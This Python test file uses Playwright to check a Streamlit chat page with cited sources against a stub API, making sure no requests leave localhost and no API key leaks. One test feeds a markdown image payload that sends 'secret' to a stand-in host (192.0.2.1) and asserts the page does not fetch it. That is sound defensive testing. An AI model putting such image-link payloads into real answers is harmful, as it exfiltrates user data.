"""The chat page in a real browser, served by the child process the service starts."""

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from bootstrap.streamlit import ChatPage, StreamlitChild
from tests.clients.api_stub import ACME_KEY, QUOTE, ApiStub, serve_stub
from utils.processes import reserve_port

pytestmark = pytest.mark.browser
QUESTION = "What does a room cost?"


@pytest.fixture(scope="module")
def shared_api() -> Iterator[ApiStub]:
    """One stub for the page, which is started once."""
    with serve_stub() as stub:
        yield stub


@pytest.fixture(scope="module")
def url(shared_api: ApiStub, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of the running page."""
    with reserve_port("127.0.0.1", 0, variable="STREAMLIT_PORT") as listener:
        port = int(listener.getsockname()[1])
    page = ChatPage(host="127.0.0.1", port=port, api_url=shared_api.url, api_key=ACME_KEY)
    child = StreamlitChild(page, tmp_path_factory.mktemp("data"))
    child.start()
    child.wait_ready()
    yield child.url
    child.stop()


@pytest.fixture
def tab(chromium: Browser) -> Iterator[Page]:
    """A new tab of a new visitor; what it asks of other machines fails the test."""
    context = chromium.new_context()
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    yield page
    context.close()
    elsewhere = [address for address in asked if urlsplit(address).hostname not in ("localhost", "127.0.0.1", None)]
    assert elsewhere == []
    assert not any(ACME_KEY in address for address in asked)


def ask(tab: Page, question: str = QUESTION) -> None:
    box = tab.get_by_placeholder("Ask a question")
    box.fill(question)
    box.press("Enter")


def test_a_visitor_gets_an_answer_with_sources_and_finds_both_again(tab: Page, url: str) -> None:
    tab.goto(url)
    ask(tab)
    for _ in ("at once", "after a reload"):
        expect(tab.get_by_text(QUESTION)).to_be_visible()
        expect(tab.get_by_text(f"{QUOTE} [1]")).to_be_visible()
        source = tab.get_by_text("[1] Student dormitory › Rooms and rent")
        source.click()
        expect(tab.get_by_text("samples/student-dormitory.md")).to_be_visible()
        tab.get_by_text("[2] Tuition, fees & payment › Deadlines, page 3").click()
        link = tab.get_by_role("link", name="Open the document")
        expect(link).to_have_attribute("href", "https://example.org/fees.pdf")
        tab.reload()


def test_an_answer_is_read_while_it_comes_and_can_be_stopped(tab: Page, url: str, shared_api: ApiStub) -> None:
    shared_api.behaviour.held = True
    asked_before = len(shared_api.asked)
    try:
        tab.goto(url)
        ask(tab)
        expect(tab.get_by_text("A single room costs")).to_be_visible()
        tab.get_by_test_id("stChatInputStopButton").click()
        assert shared_api.left.wait(10)
    finally:
        shared_api.behaviour.held = False
    ask(tab, "And when is it due?")
    expect(tab.get_by_text(f"{QUOTE} [1]")).to_be_visible()
    assert [question for _, _, question in shared_api.asked[asked_before:]] == [QUESTION, "And when is it due?"]


def test_a_new_chat_leaves_the_old_one_in_the_browsers_history(tab: Page, url: str) -> None:
    tab.goto(url)
    ask(tab, "first")
    expect(tab.get_by_text(f"{QUOTE} [1]")).to_be_visible()
    old = tab.url
    tab.get_by_role("button", name="New chat").click()
    expect(tab.get_by_text(f"{QUOTE} [1]")).to_have_count(0)
    ask(tab, "second")
    expect(tab.get_by_text(f"{QUOTE} [1]")).to_be_visible()
    assert tab.url != old
    tab.goto(old)
    expect(tab.get_by_text("first", exact=True)).to_be_visible()
    expect(tab.get_by_text("second", exact=True)).to_have_count(0)


def test_an_image_in_an_answer_is_not_fetched(tab: Page, url: str, shared_api: ApiStub) -> None:
    """The tab's fixture sees every request."""
    usual, shared_api.behaviour.answer = shared_api.behaviour.answer, "Look: ![x](http://192.0.2.1/?q=secret) [1]"
    try:
        tab.goto(url)
        ask(tab)
        expect(tab.get_by_text("Look:")).to_be_visible()
        expect(tab.get_by_text("Sources", exact=True)).to_be_visible()
    finally:
        shared_api.behaviour.answer = usual


def test_what_the_service_wrote_down_of_the_page_holds_no_key(url: str, tmp_path: Path) -> None:
    logs = list(tmp_path.parent.glob("data*/streamlit.log"))
    assert logs
    assert all(ACME_KEY not in log.read_text() for log in logs)
